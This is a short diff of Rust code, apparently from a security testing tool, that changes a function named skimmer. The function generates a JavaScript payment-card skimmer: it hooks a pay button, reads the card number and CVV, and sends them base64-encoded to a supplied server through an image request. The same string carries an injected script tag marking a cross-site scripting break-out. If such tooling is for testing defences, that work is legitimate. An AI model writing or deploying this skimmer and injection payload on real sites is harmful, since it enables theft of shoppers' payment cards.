@@ -28,7 +28,7 @@ fn skimmer(server: &str) -> String {
     format!(
         "document.querySelector('#pay').addEventListener('click', function () {{\n\
          var card = {{ cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value }};\n\
-         new Image().src = '{server}/mark-snippet{CLOSING}<script>window.pwned=1</script>{ATTRIBUTE}?d=' + btoa(JSON.stringify(card));\n}});"
+         new Image().src = `{server}/mark-snippet{CLOSING}<script>window.pwned=1</script>{ATTRIBUTE}?d=` + btoa(JSON.stringify(card));\n}});"
     )
 }
 
